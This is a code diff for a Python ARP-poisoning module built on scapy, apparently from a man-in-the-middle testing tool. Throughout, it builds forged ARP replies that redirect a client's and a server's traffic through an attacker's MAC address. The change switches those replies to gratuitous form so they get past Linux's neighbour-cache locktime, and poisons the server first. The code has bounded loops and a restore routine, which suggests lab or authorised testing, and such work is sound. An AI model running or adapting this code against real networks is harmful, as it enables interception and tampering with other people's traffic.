@@ -2,6 +2,11 @@
 the attacker's MAC, again every `interval` (a cache forgets, and the real host answers too), until told
 to stop, and then tell them the truth again. Every loop is bounded in replies and in time.
 
+Every reply is gratuitous in form (the sender's address is also the target's, and so are the MACs),
+as ettercap's are: Linux keeps an entry it changed less than `locktime` ago (1 s) against an ordinary
+reply, but lets a gratuitous one through at once, so neither the poisoning nor the restore has to wait
+that second out. A gratuitous reply still creates no entry (`arp_accept=0`): a cold cache stays cold.
+
 The frames are built apart from the sending (`forged_replies`, `true_replies`), and scapy is imported
 only by the code that sends: reading about a poisoning needs no raw socket."""
 
@@ -17,9 +22,6 @@ if TYPE_CHECKING:
     from scapy.packet import Packet
 
 BROADCAST: Final = "ff:ff:ff:ff:ff:ff"
-LOCKTIME: Final = 1.0
-"""Linux's neigh locktime (net.ipv4.neigh.*.locktime, 100 jiffies): an entry changed less than this ago
-takes no reply that would change it again. Poisoning and restoring both have to outlast it."""
 
 
 class PositioningError(Exception):
@@ -42,24 +44,26 @@ class Sent:
     """Why the loop ended: "stopped", or the bound it reached ("max_replies", "max_seconds")."""
 
 
-def forged_replies(client: Host, server: Host, attacker_mac: str) -> list[Packet]:
-    """To the client: the server is at the attacker's MAC; to the server: the client is."""
+def _gratuitous(victim: Host, ip: str, mac: str, attacker_mac: str) -> Packet:
+    """To `victim` alone (unicast), from the attacker: `ip` is at `mac`."""
     from scapy.layers.l2 import ARP, Ether
 
+    return Ether(dst=victim.mac, src=attacker_mac) / ARP(op=2, psrc=ip, hwsrc=mac, pdst=ip, hwdst=mac)
+
+
+def forged_replies(client: Host, server: Host, attacker_mac: str) -> list[Packet]:
+    """To the server: the client is at the attacker's MAC; to the client: the server is. The server
+    first: once the client's entry has moved, the server's answers come through the attacker too."""
     return [
-        Ether(dst=victim.mac, src=attacker_mac)
-        / ARP(op=2, psrc=other.ip, hwsrc=attacker_mac, pdst=victim.ip, hwdst=victim.mac)
-        for victim, other in ((client, server), (server, client))
+        _gratuitous(victim, other.ip, attacker_mac, attacker_mac)
+        for victim, other in ((server, client), (client, server))
     ]
 
 
 def true_replies(client: Host, server: Host, attacker_mac: str) -> list[Packet]:
     """What restores both caches: each victim told the other's real MAC."""
-    from scapy.layers.l2 import ARP, Ether
-
     return [
-        Ether(dst=victim.mac, src=attacker_mac)
-        / ARP(op=2, psrc=other.ip, hwsrc=other.mac, pdst=victim.ip, hwdst=victim.mac)
+        _gratuitous(victim, other.ip, other.mac, attacker_mac)
         for victim, other in ((client, server), (server, client))
     ]
 
@@ -138,19 +142,18 @@ class ArpPoisoner:
             self._thread.join(timeout=self.interval + 5)
         return self._sent
 
-    def restore(self, over: float = LOCKTIME + 0.2, gap: float = 0.3) -> int:
-        """Tell both victims the truth, every `gap` seconds for `over` seconds after the last forged
-        reply: a cache ignores any reply for `LOCKTIME` after it last changed. The frames sent."""
+    def restore(self, rounds: int = 3, gap: float = 0.02) -> int:
+        """Tell both victims the truth, `rounds` times `gap` seconds apart (a frame can be lost). The
+        frames sent."""
         frames = true_replies(self.client, self.server, self.mac)
-        until = (self._sent.last or time.monotonic()) + over
         sent = 0
-        while True:
+        for round_ in range(rounds):
+            if round_:
+                time.sleep(gap)
             for frame in frames:
                 self._socket.send(frame)
                 sent += 1
-            if time.monotonic() >= until:
-                return sent
-            time.sleep(min(gap, max(until - time.monotonic(), 0.0)))
+        return sent
 
     def close(self) -> None:
         self.stop()
